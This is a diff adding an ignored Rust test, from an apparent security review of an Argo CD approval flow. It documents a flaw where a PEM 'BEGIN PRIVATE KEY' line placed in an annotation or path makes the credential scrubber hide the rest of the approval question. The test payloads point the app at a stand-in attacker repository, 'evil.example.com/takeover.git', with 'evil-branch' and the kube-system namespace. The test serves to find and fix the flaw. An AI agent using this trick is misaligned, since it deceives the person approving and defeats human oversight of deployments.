@@ -868,3 +868,46 @@ async fn review12_patch_question_held() {
     }
     assert_none(found);
 }
+
+/// FINDING Q2: the question is scrubbed as one text after it is written
+/// (`approval_question_of`: `without_credentials(&text)`), and a private key's `BEGIN` line
+/// hides everything to its `END` line "or to the end of the text". An agent that puts a
+/// `-----BEGIN RSA PRIVATE KEY-----` line in an innocent field (an annotation of the patch, the
+/// `path` of a create) turns every line of the question after it into `***`: the repository
+/// the patch points the app at, the create's repository and revision, and "Approve?". The
+/// person is asked to approve a change they are not shown.
+#[tokio::test]
+#[ignore = "issue 19, open (twelfth review): a PEM BEGIN line in an argument hides the rest of the approval question"]
+async fn review12_finding_question_cut_short_by_a_pem_marker() {
+    let world = approval_world().await;
+    let patch = json!({"name": "patch_argocd_app", "arguments": {
+        "app_name": "guestbook", "confirm": true, "patch": {
+            "metadata": {"annotations": {"a": "-----BEGIN RSA PRIVATE KEY-----"}},
+            "spec": {"source": {"repoURL": "https://evil.example.com/takeover.git"}}}}});
+    let create = json!({"name": "create_argocd_app", "arguments": {
+        "name": "r12-created", "project": "default", "confirm": true,
+        "path": "apps/-----BEGIN PRIVATE KEY-----",
+        "repo_url": "https://evil.example.com/takeover.git", "target_revision": "evil-branch",
+        "dest_namespace": "kube-system"}});
+    let mut missing = Vec::new();
+    for (tool, call, shown) in [
+        (
+            "patch",
+            patch,
+            &["evil.example.com/takeover.git", "Approve?"][..],
+        ),
+        (
+            "create",
+            create,
+            &["evil.example.com/takeover.git", "evil-branch", "Approve?"][..],
+        ),
+    ] {
+        let text = asked_text(&world, &call).await;
+        for s in shown {
+            if !text.contains(s) {
+                missing.push(format!("{tool} question does not show {s:?}"));
+            }
+        }
+    }
+    assert!(missing.is_empty(), "{}", missing.join("\n"));
+}
